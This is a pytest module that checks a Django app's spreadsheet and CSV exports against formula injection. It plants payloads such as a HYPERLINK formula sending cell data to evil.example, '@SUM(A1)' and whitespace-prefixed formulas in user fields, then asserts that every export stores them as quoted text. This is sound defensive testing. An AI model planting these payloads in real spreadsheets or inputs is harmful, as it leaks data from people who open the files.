"""Spreadsheet formula injection (issue 14, point 1; OWASP "CSV injection").

Hostile text planted through the services in every user text field an export carries comes back
from EVERY XLSX / CSV / ZIP export as text: no cell is a formula, a formula-like XLSX cell is a
string with the quote prefix and reads back as the stored text, a CSV field carries the OWASP single
quote. The exports are enumerated from the URL conf and the OpenAPI schema, so a new export that
this test does not download fails it."""

import csv
import datetime
import io
import re
import zipfile
from decimal import Decimal
from pathlib import Path

import pytest
from django.test import Client
from django.urls import get_resolver
from djmoney.money import Money
from openpyxl import load_workbook

from alliances.exports import is_formula_like
from finance import chart
from finance import services as finance
from ip_registry import services as ip
from membership import services as membership
from tests.alliances.test_isolation import _walk
from tests.conftest import api_as
from tests.membership.conftest import complete_fields

pytestmark = pytest.mark.django_db

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]
EXPORT_NAME = re.compile(r"xlsx|csv|zip|export", re.I)
ROOT = Path(__file__).resolve().parents[2]
APPS = ("alliances", "membership", "governance", "finance", "projects", "ip_registry", "bureau", "config")


@pytest.fixture
def planted(oe):
    """Hostile values in units, IP assets and their outside owners, receipts, entry
    descriptions and line memos; returns the unit whose statement carries the receipts."""
    sec, sg, a = oe.user("sec"), oe.user("sg"), oe.alliance
    for value in HOSTILE:
        membership.member_apply(actor=sec, alliance=a, **complete_fields(name=value, legal_representative=value, address=value))
    for value in HOSTILE:
        ip.asset_register(actor=sec, alliance=a, kind="invention_patent", title=value, origin="background",
                          owners=[(oe.units[0], "", Decimal("60")), (None, value, Decimal("40"), "domestic")],
                          filing_date=datetime.date(2024, 1, 10))
    commitment = finance.commitment_set(actor=sec, alliance=a, member_unit=oe.units[0], year=2026, amount=Money(600, "CNY"))
    fund = finance.fund_for(alliance=a, source="other")
    for value in HOSTILE:
        finance.entry_approve(actor=sg, alliance=a, entry=finance.contribution_receive(
            actor=sec, alliance=a, commitment=commitment, amount=Money(10, "CNY"), date=datetime.date(2026, 3, 2),
            description=value))
        finance.entry_approve(actor=sg, alliance=a, entry=finance.entry_record(
            actor=sec, alliance=a, date=datetime.date(2026, 3, 3), description=value, lines=[
                {"account": chart.BANK, "fund": fund, "debit": Money(5, "CNY"), "memo": value},
                {"account": chart.INCOME_OTHER, "fund": fund, "credit": Money(5, "CNY"), "memo": value},
            ]))
    return oe.units[0]


def _xlsx_texts(content: bytes) -> set[str]:
    book = load_workbook(io.BytesIO(content))
    texts = set()
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula: {cell.value!r}"
                if isinstance(cell.value, str) and is_formula_like(cell.value):
                    assert cell.data_type in ("s", "inlineStr") and cell.quotePrefix, cell.coordinate
                texts.add(cell.value)
    return texts


NUMBER = re.compile(r"^-?\d+(\.\d+)?$")


def _csv_texts(text: str) -> set[str]:
    texts = set()
    for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))):
        for field in row:
            assert not is_formula_like(field) or NUMBER.match(field), f"CSV field starts like a formula: {field!r}"
            if field.startswith("'"):
                texts.add(field[1:])
    return texts


def _texts_of(response) -> set[str]:
    """Every text of a downloaded export (an XLSX, a CSV, or a ZIP of them), checked cell by cell."""
    assert response.status_code == 200, response.status_code
    content = b"".join(response.streaming_content) if response.streaming else response.content
    if content[:2] != b"PK":
        return _csv_texts(content.decode("utf-8"))
    archive = zipfile.ZipFile(io.BytesIO(content))
    if "xl/workbook.xml" in archive.namelist():
        return _xlsx_texts(content)
    texts = set()
    for name in archive.namelist():
        if name.endswith(".csv"):
            texts |= _csv_texts(archive.read(name).decode("utf-8"))
        else:
            assert name.endswith((".json", ".jsonl", ".pem")), name  # data and keys, not spreadsheets
    return texts


def _page(user):
    client = Client()
    client.force_login(user)
    return client


def _downloads(oe, unit):
    """Every export, by its page route or API operation: how to download it as a user allowed to."""
    api_base = f"/api/v1/alliances/{oe.alliance.slug}/ledger/"
    page_base = f"/a/{oe.alliance.slug}/"
    auditor, sec = oe.user("auditor"), oe.user("sec")
    return {
        "a/<slug:slug>/members/export.xlsx": lambda: _page(sec).get(page_base + "members/export.xlsx"),
        "a/<slug:slug>/ip/export.xlsx": lambda: _page(sec).get(page_base + "ip/export.xlsx"),
        "a/<slug:slug>/finance/entries/export.xlsx": lambda: _page(auditor).get(page_base + "finance/entries/export.xlsx"),
        "a/<slug:slug>/finance/accounts/export.xlsx": lambda: _page(auditor).get(page_base + "finance/accounts/export.xlsx",
                                                                               {"as_of": "2026-12-31"}),
        **{f"a/<slug:slug>/{path}": (lambda path=path: _page(sec).get(page_base + path))
           for path in ("motions/export.xlsx", "meetings/export.xlsx", "projects/export.xlsx")},
        "a/<slug:slug>/finance/auditor-export/": lambda: _page(auditor).get(page_base + "finance/auditor-export/",
                                                                          {"as_of": "2026-12-31"}),
        # The statement page's XLSX is a ?format of its page route: not found by name, listed here.
        "statement page ?format=xlsx": lambda: _page(sec).get(page_base + f"finance/statements/{unit.pk}/",
                                                            {"format": "xlsx", "as_of": "2026-12-31"}),
        "v1_alliances_ledger_statements_xlsx_retrieve": lambda: api_as(sec).get(
            api_base + f"statements/{unit.pk}/xlsx/", {"as_of": "2026-12-31"}),
        "v1_alliances_ledger_auditor_export_retrieve": lambda: api_as(auditor).get(
            api_base + "auditor-export/", {"as_of": "2026-12-31"}),
        **{f"v1_alliances_ledger_reports_{name.replace('-', '_')}_xlsx_retrieve":
           (lambda path=f"reports/{name}/xlsx/": api_as(auditor).get(api_base + path, {"date_from": "2026-01-01"}))
           for name in ("balance-sheet", "activities", "cash-flow")},
    }


# The statutory statements carry no user text but the alliance's name: every cell is checked (no
# formula), but the planted values are not expected in them.
STATEMENTS = {f"v1_alliances_ledger_reports_{name}_xlsx_retrieve" for name in ("balance_sheet", "activities", "cash_flow")}
# Lists whose rows hold none of the planted values (accounts, motions, meetings, projects): checked cell by cell too.
STATEMENTS |= {f"a/<slug:slug>/{path}" for path in ("finance/accounts/export.xlsx", "motions/export.xlsx",
                                                     "meetings/export.xlsx", "projects/export.xlsx")}


def _export_routes(oe) -> set[str]:
    pages = {route for route, _name in _walk(get_resolver())
             if not route.startswith(("admin/", "api/", "static/", "media/")) and EXPORT_NAME.search(route)}
    schema = api_as(oe.user("sec")).get("/api/schema/?format=json").json()
    operations = {op["operationId"] for operations in schema["paths"].values() for op in operations.values()
                  if EXPORT_NAME.search(op["operationId"])}
    return pages | operations


def test_every_export_stores_formula_like_user_text_as_text(oe, planted):
    downloads = _downloads(oe, planted)
    missing = _export_routes(oe) - set(downloads)
    assert not missing, f"exports this test does not download: {sorted(missing)}"
    found = {name: _texts_of(fetch()) for name, fetch in downloads.items()}
    # Services strip surrounding blanks ("\t=1" is stored as "=1"); every stored value is read back.
    stored = set(HOSTILE[:4]) | {"=1"}
    for name, texts in found.items():
        assert name in STATEMENTS or stored <= texts, (name, stored - texts)


def test_a_negative_amount_stays_a_number(oe):
    from alliances.exports import CsvTable, Spreadsheet

    table = CsvTable()
    table.row([Decimal("-5.00"), "-5.00", -3, datetime.date(2026, 1, 2)])
    assert table.text().strip() == "-5.00,'-5.00,-3,2026-01-02"
    book = Spreadsheet("t")
    book.row([Decimal("-5.00"), "-2+3"])
    sheet = load_workbook(io.BytesIO(book.to_bytes())).active
    assert (sheet["A1"].value, sheet["A1"].data_type, sheet["B1"].value, sheet["B1"].data_type) == (-5, "n", "-2+3", "s")


def test_no_module_writes_a_spreadsheet_or_csv_outside_the_one_helper():
    """A new export goes through alliances/exports.py: nothing else imports openpyxl or csv.writer."""
    offenders = []
    for app in APPS:
        for path in (ROOT / app).rglob("*.py"):
            text = path.read_text(encoding="utf-8")
            if path == ROOT / "alliances" / "exports.py":
                continue
            if re.search(r"^\s*(from|import) openpyxl|csv\.(writer|DictWriter)\(", text, re.M):
                offenders.append(str(path.relative_to(ROOT)))
    assert not offenders
